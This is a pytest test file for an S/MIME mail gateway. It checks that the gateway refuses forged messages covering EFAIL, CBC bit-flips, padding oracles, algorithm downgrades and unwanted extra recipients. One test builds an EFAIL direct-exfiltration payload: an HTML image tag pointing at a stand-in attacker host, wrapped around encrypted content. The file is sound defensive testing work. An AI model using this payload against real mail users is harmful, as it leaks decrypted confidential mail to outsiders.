"""Attacks on envelope and encryption: each row of the threat table that this room must hold (section 15)."""

import os
from collections import Counter

import pytest

from gateway import securemail as sm
from gateway.securemail import decrypt, der, envelope, layout, profiles, scanner
from tests.securemail import forge
from tests.securemail.forge import READER, SIGNER, entity, enveloped, fields, genuine, mail, signed
from tests.securemail.world import MUNICIPALITY, decrypting, leaf, open_mail, opened, partner, reason

KEY = decrypting(READER)
RSA_READER = leaf(MUNICIPALITY, "rsa-2048")
RSA_KEY = decrypting(RSA_READER)


def open_it(raw: bytes, *keys: sm.DecryptionKey, **changes) -> sm.Opened | sm.Refused:
    return open_mail(raw, partner(SIGNER, **changes), *(keys or (KEY,)))


def cms_of(raw: bytes) -> bytes:
    return scanner.decode_body(scanner.read_entity(raw))


def test_the_genuine_message_is_accepted():
    """The attacks below differ from this in one thing each."""
    assert opened(open_it(genuine())).headers.message_id == forge.MESSAGE_ID


def test_sm18_efail_an_encrypted_part_in_foreign_mime_is_not_opened():
    """Direct exfiltration: HTML before and after the encrypted part."""
    outer = "".join(f.line for f in fields())
    part = layout.enveloped_mail((), cms_of(genuine()), authenticated=False)
    raw = (
        (
            f'{outer}Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n'
            '<img src="http://aanvaller.example/\r\n--b\r\n'
        ).encode()
        + part
        + b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )

    assert reason(open_it(raw)) == "not-smime"


@pytest.mark.parametrize("blocks", [1, 2, 40, -2])
def test_sm25_efail_edited_cbc_blocks_never_open(blocks):
    """A flipped bit anywhere in the ciphertext gives `decrypt` or `signature`, with nothing shown."""
    cms = bytearray(cms_of(genuine()))
    start = len(cms) - 16 * 200
    cms[start + 16 * (blocks % 200)] ^= 1

    refused = open_it(mail(bytes(cms)))

    assert reason(refused) in ("decrypt", "signature")


def test_sm23_every_failure_of_decryption_looks_the_same():
    """Wrong key bytes, wrong length, bad padding, garbage, a missing signature: one reason, no detail."""
    rsa = envelope.read_envelope(cms_of(enveloped(signed(entity()), RSA_READER)))
    key = rsa.recipients[0].encrypted
    answers = set()
    for bad in (os.urandom(len(key)), b"", key[:-1], bytes(len(key)), b"\xff" * len(key)):
        cms = cms_of(enveloped(signed(entity()), RSA_READER))
        original = envelope.read_envelope(cms).recipients[0].encrypted
        answer = open_it(
            mail(cms.replace(original, bad) if len(bad) == len(original) else swapped(cms, original, bad)), RSA_KEY
        )
        answers.add((answer.reason, answer.detail))
    for garbage in (b"", b"\x00" * 64, os.urandom(500), b"geen mime", signed(entity()) + b"x"):
        answer = open_it(enveloped(garbage))
        answers.add((answer.reason, answer.detail))

    assert answers == {("decrypt", "")}


def swapped(cms: bytes, original: bytes, other: bytes) -> bytes:
    """Replace the encrypted key by one of another length, lengths around it mended."""
    read = envelope.read_envelope(cms)
    info = der.sequence(
        der.integer(0),
        sm.recipient(RSA_READER.der).issuer_serial,
        profiles.transport_identifier("pkcs1"),
        der.octets(other),
    )
    content = der.sequence(
        der.oid(profiles.DATA),
        der.sequence(der.oid(profiles.AES256_CBC.oid), der.octets(read.iv)),
        der.implicit(0, bytes(read.ciphertext)),
    )
    assert original == read.recipients[0].encrypted
    body = der.sequence(der.integer(0), der.set_of(info), content)
    return der.sequence(der.oid(profiles.ENVELOPED_DATA), der.explicit(0, body))


def test_sm23_a_wrong_key_still_decrypts_the_whole_content(monkeypatch):
    """The substitute key makes a failed unwrap as much work as a good one."""
    read = envelope.read_envelope(cms_of(enveloped(signed(entity()), RSA_READER)))
    used = []
    real = decrypt._cbc
    monkeypatch.setattr(decrypt, "_cbc", lambda e, k: used.append(len(k)) or real(e, k))
    info = read.recipients[0]
    for wrong in (b"", os.urandom(256), os.urandom(255)):
        broken = type(info)(name=info.name, kind="pkcs1", encrypted=wrong)
        (plaintext,) = decrypt.plaintexts(read, [(broken, RSA_KEY)])
        assert len(plaintext.data) >= len(read.ciphertext) - 16
    assert used == [32, 32, 32]


def test_sm139_a_bad_pkcs1_block_does_not_raise():
    """Implicit rejection is present in this build, else PKCS#1 v1.5 would be off."""
    assert RSA_KEY.pkcs1


def test_sm139_a_key_without_implicit_rejection_is_not_used_for_pkcs1():
    """Then the envelope finds no key."""
    import msgspec

    unsafe = msgspec.structs.replace(RSA_KEY, pkcs1=False)

    assert reason(open_it(enveloped(signed(entity()), RSA_READER), unsafe)) == "no-key"


@pytest.mark.parametrize("tail", [b"x", b"\r\n" + bytes(32), b"--b--", b"\r\n\xff" * 9])
def test_sm123_nothing_may_follow_the_signed_message(tail):
    """Blocks appended where nobody looks would turn receipts into a padding oracle: refused as `decrypt`."""
    assert reason(open_it(enveloped(signed(entity()) + tail))) == "decrypt"


@pytest.mark.parametrize("tail", [b"", b"\r\n", b" \t\r\n\r\n"])
def test_sm123_blanks_may_follow(tail):
    """Only spaces and line ends, as mail programs write."""
    assert opened(open_it(enveloped(signed(entity()) + tail)))


@pytest.mark.parametrize("front", [b"\x00\r\n", b"\xff\r\n", b"a" * 1025 + b"\r\n"])
def test_sm123_the_preamble_is_short_printable_text(front):
    """Anything else before the first boundary refuses the whole."""
    head, body = signed(entity()).split(b"\r\n\r\n", 1)

    assert reason(open_it(enveloped(head + b"\r\n\r\n" + front + body))) == "decrypt"
    assert opened(open_it(enveloped(head + b"\r\n\r\nThis is an S/MIME signed message\r\n\r\n" + body)))


@pytest.mark.parametrize("extra", [b"=", b"!", b"\r\nQUFB", b"\x00", b"-"])
def test_sm123_nothing_may_follow_or_interrupt_the_base64(extra):
    """`base64.b64decode` would skip it without a word."""
    raw = genuine().rstrip() + extra + b"\r\n"

    assert reason(open_it(raw)) == "malformed"


def test_sm123_nothing_may_follow_the_cms_structure():
    """asn1crypto would ignore it."""
    assert reason(open_it(mail(cms_of(genuine()) + b"\x05\x00"))) == "malformed"


def test_sm1_a_strict_partners_content_in_cbc_is_refused():
    """The downgrade from AEAD to CBC fails on the profile."""
    assert reason(open_it(genuine(), profile="strict")) == "algorithm"


def test_sm122_a_key_for_strict_only_never_decrypts_cbc_or_pkcs1():
    """Not even under the name of a partner with `standard`."""
    strict_only = decrypting(READER, frozenset({"strict"}))

    assert reason(open_it(genuine(), strict_only)) == "no-key"
    gcm = enveloped(signed(entity()), profile=profiles.STRICT)
    assert opened(open_it(gcm, strict_only)).algorithms.content == "aes256-gcm"


def test_sm24_a_changed_tag_or_content_of_gcm_opens_nothing():
    """The tag is checked over the whole before a byte is released."""
    cms = cms_of(enveloped(signed(entity()), profile=profiles.STRICT))
    for at in (-1, -40):
        broken = bytearray(cms)
        broken[at] ^= 1
        assert reason(open_it(mail(bytes(broken)))) == "decrypt"


def gcm_with(parameters: bytes, tag_size: int = 16) -> bytes:
    """AuthEnvelopedData with parameters of our choosing."""
    cms = cms_of(enveloped(signed(entity()), profile=profiles.STRICT))
    read = envelope.read_envelope(cms)
    good_parameters = der.sequence(der.octets(read.iv), der.integer(16))
    infos = cms[cms.index(b"\x31") :]
    infos = infos[: infos.index(der.oid(profiles.DATA)) - 4]
    content = der.sequence(
        der.oid(profiles.DATA),
        der.sequence(der.oid(profiles.AES256_GCM.oid), parameters or good_parameters),
        der.implicit(0, bytes(read.ciphertext)),
    )
    body = der.sequence(der.integer(0), infos, content, der.octets(read.tag[:tag_size]))
    return der.sequence(der.oid(profiles.AUTH_ENVELOPED_DATA), der.explicit(0, body))


@pytest.mark.parametrize(
    ("parameters", "tag_size"),
    [
        (der.sequence(der.octets(bytes(12))), 16),  # length absent: 12
        (der.sequence(der.octets(bytes(12)), der.integer(12)), 12),
        (der.sequence(der.octets(bytes(16)), der.integer(16)), 16),
        (b"", 12),
    ],
)
def test_sm24_short_tags_and_odd_nonces_are_refused(parameters, tag_size):
    """Tag 16 and said aloud, nonce 12."""
    assert reason(open_it(mail(gcm_with(parameters, tag_size)))) == "algorithm"


def test_sm22_the_same_recipient_twice_is_malformed():
    """Two RecipientInfos with one identifier."""
    assert reason(open_it(enveloped(signed(entity()), READER, READER))) == "malformed"


def test_sm22_at_most_three_keys_are_tried():
    """A flood of private-key operations is bounded."""
    readers = [leaf(MUNICIPALITY, "p256", number) for number in range(1, 6)]
    read = envelope.read_envelope(cms_of(enveloped(signed(entity()), *readers)))

    assert len(decrypt.matching(read, [decrypting(r) for r in readers])) == 3


def test_sm22_an_expired_key_still_opens_and_two_keys_are_tried_in_turn():
    """The first of our keys fails on a broken RecipientInfo, the second opens."""
    other = leaf(MUNICIPALITY, "p256", 7)
    cms = cms_of(enveloped(signed(entity()), READER, other))
    encrypted = {k.name.serial: k.encrypted for k in envelope.read_envelope(cms).recipients}
    broken = cms.replace(encrypted[READER.certificate.serial_number], bytes(40))

    assert opened(open_it(mail(broken), KEY, decrypting(other)))
    assert reason(open_it(mail(broken), KEY)) == "decrypt"


def test_no_key_of_ours():
    """Encrypted to somebody else."""
    assert reason(open_it(enveloped(signed(entity()), leaf("iemand@elders.example")))) == "no-key"


def test_step4_no_private_key_is_used_for_a_stranger(monkeypatch):
    """The outer From is looked at before anything is decrypted."""
    used = Counter()
    monkeypatch.setattr(decrypt, "matching", lambda *_: used.update(["key"]))
    raw = genuine().replace(b"plan@zorg.example", b"plan@vreemd.example", 1)

    assert reason(open_it(raw)) == "sender"
    assert not used


@pytest.mark.parametrize(
    ("plaintext", "expected"),
    [
        (b"Content-Type: text/plain\r\n\r\nhoi", "not-signed"),
        (b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nhoi\r\n--x--\r\n", "not-signed"),
        (b"From: a@b.example\r\n\r\nhoi", "decrypt"),
    ],
)
def test_step8_encrypted_without_a_signature(plaintext, expected):
    """Well-formed MIME of another type is `not-signed`; anything less tells nothing."""
    assert reason(open_it(enveloped(plaintext))) == expected


def test_sm18_encryption_within_encryption_is_refused():
    """S/MIME deeper than envelope, signature."""
    assert reason(open_it(enveloped(layout.enveloped_mail((), cms_of(genuine()), authenticated=False)))) == "structure"


def test_sm18_triple_wrapping_is_refused():
    """An envelope inside the signed entity."""
    inner = entity().replace(b"application/pdf", b"application/pkcs7-mime")

    assert reason(open_it(enveloped(signed(inner)))) == "structure"


def test_sm26_compressed_data_is_refused_at_any_level():
    """Outside and as signed content."""
    compressed = der.sequence(der.oid("1.2.840.113549.1.9.16.1.9"), der.explicit(0, der.sequence(der.integer(0))))

    assert reason(open_it(mail(compressed))) == "algorithm"
    inside = (
        b"Content-Type: application/pkcs7-mime; smime-type=compressed-data\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + layout.base64_lines(compressed)
    )
    assert reason(open_it(enveloped(inside))) == "structure"


@pytest.mark.parametrize(
    ("swap", "into"),
    [
        (profiles.AES256_CBC.oid, "1.2.840.113549.3.7"),  # 3DES
        (profiles.AES256_CBC.oid, "1.2.840.113549.3.2"),  # RC2
        (profiles.RSA, "1.2.840.113549.1.1.99"),
    ],
)
def test_sm4_an_identifier_outside_the_table_is_refused(swap, into):
    """Before any key is used."""
    read = envelope.read_envelope(cms_of(enveloped(signed(entity()), RSA_READER)))
    transport = der.sequence(der.oid(into if swap == profiles.RSA else profiles.RSA), der.NULL)
    info = der.sequence(
        der.integer(0), sm.recipient(RSA_READER.der).issuer_serial, transport, der.octets(read.recipients[0].encrypted)
    )
    cipher = der.oid(into if swap != profiles.RSA else profiles.AES256_CBC.oid)
    content = der.sequence(
        der.oid(profiles.DATA), der.sequence(cipher, der.octets(read.iv)), der.implicit(0, bytes(read.ciphertext))
    )
    body = der.sequence(der.integer(0), der.set_of(info), content)
    cms = der.sequence(der.oid(profiles.ENVELOPED_DATA), der.explicit(0, body))

    assert reason(open_it(mail(cms), RSA_KEY)) == "algorithm"


@pytest.mark.parametrize("number", [2, 3, 4])
def test_a_password_or_shared_key_beside_ours_is_refused(number):
    """kekri, pwri and other recipients: somebody else could read along."""
    read = envelope.read_envelope(cms_of(enveloped(signed(entity()), RSA_READER)))
    ours = der.sequence(
        der.integer(0),
        sm.recipient(RSA_READER.der).issuer_serial,
        profiles.transport_identifier("pkcs1"),
        der.octets(read.recipients[0].encrypted),
    )
    strange = {
        2: der.integer(4) + der.sequence(der.octets(b"id")) + der.sequence(der.oid(profiles.AES256_WRAP.oid)),
        3: der.integer(0) + der.sequence(der.oid("1.2.840.113549.1.9.16.3.9"), der.NULL),
        4: der.oid("1.2.840.113549.1.9.16.13.1") + der.NULL,
    }[number] + (b"" if number == 4 else der.octets(bytes(40)))
    content = der.sequence(
        der.oid(profiles.DATA),
        der.sequence(der.oid(profiles.AES256_CBC.oid), der.octets(read.iv)),
        der.implicit(0, bytes(read.ciphertext)),
    )
    body = der.sequence(der.integer(3), der.set_of(ours, der.explicit(number, strange)), content)
    cms = der.sequence(der.oid(profiles.ENVELOPED_DATA), der.explicit(0, body))

    assert reason(open_it(mail(cms), RSA_KEY)) == "algorithm"


def test_not_encrypted_at_all():
    """A clear-signed message of a partner without an exception."""
    raw = layout.clear_mail(fields(), signed(entity(enveloped=False)))

    assert reason(open_it(raw)) == "not-encrypted"


def test_sm115_clear_signed_mail_needs_an_exception_in_force():
    """Until its end date."""
    from datetime import timedelta

    from tests.securemail.world import NOW

    raw = layout.clear_mail(fields(), signed(entity(enveloped=False)))
    today = NOW.date()

    current = sm.TransportOnly(today, today, "overgang")
    over = sm.TransportOnly(today - timedelta(days=9), today - timedelta(days=1), "overgang")
    mail_read = opened(open_it(raw, agreements={"transport_only": current}))
    assert not mail_read.encrypted
    assert reason(open_it(raw, agreements={"transport_only": over})) == "not-encrypted"


def test_sm132_a_decrypted_message_passed_on_in_the_clear_is_refused():
    """`hp="cipher"` without an envelope."""
    from tests.securemail.world import NOW

    exception = sm.TransportOnly(NOW.date(), NOW.date(), "overgang")
    raw = layout.clear_mail(fields(), signed(entity()))

    assert reason(open_it(raw, agreements={"transport_only": exception})) == "headers"


def test_sm132_a_public_message_that_was_wrapped_is_refused():
    """`hp="clear"` inside an envelope."""
    assert reason(open_it(enveloped(signed(entity(enveloped=False))))) == "headers"
